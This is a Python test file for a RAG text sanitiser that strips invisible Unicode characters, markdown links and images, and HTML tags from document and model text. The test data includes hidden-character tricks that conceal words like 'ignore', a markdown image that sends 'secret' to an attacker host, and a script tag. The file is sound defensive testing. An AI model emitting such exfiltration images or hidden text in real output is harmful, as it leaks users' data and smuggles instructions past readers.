"""Text of documents and models made inert (faults: D67, N80)."""

from __future__ import annotations

import pytest

from desktop.services.rag.plain import InertStream, inert, visible


def test_invisible_characters_are_left_out() -> None:
    hidden = "ig\u200bnore \U000e0041\U000e0042\u202eevil\u202c\x00 text\u2066"

    assert visible(hidden) == "ignore evil text"


def test_korean_tabs_and_line_ends_stay() -> None:
    assert visible("가나\t다\r\n라") == "가나\t다\n라"


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("see ![x](https://evil.example/?q=secret) here", "see x here"),
        ("see [the page](https://evil.example) [1]", "see the page [1]"),
        ("<https://evil.example/a>", "https://evil.example/a"),
        ("a <script>alert(1)</script> b", "a alert(1) b"),
        ("[ref]: https://evil.example\ntext [2]", "\ntext [2]"),
        ("3 < 4 and 5 > 4", "3 < 4 and 5 > 4"),
    ],
)
def test_links_images_and_tags_become_words(text: str, plain: str) -> None:
    assert inert(text) == plain


@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_a_stream_is_as_inert_as_the_whole(size: int) -> None:
    text = "One [1]. See ![p](http://e.example/x) and [q](http://e.example) <b>now</b> [2][3] end!"
    stream = InertStream()

    pieces = [stream.feed(text[at : at + size]) for at in range(0, len(text), size)]
    pieces.append(stream.end())

    assert "".join(pieces) == "One [1]. See p and q now [2][3] end!"
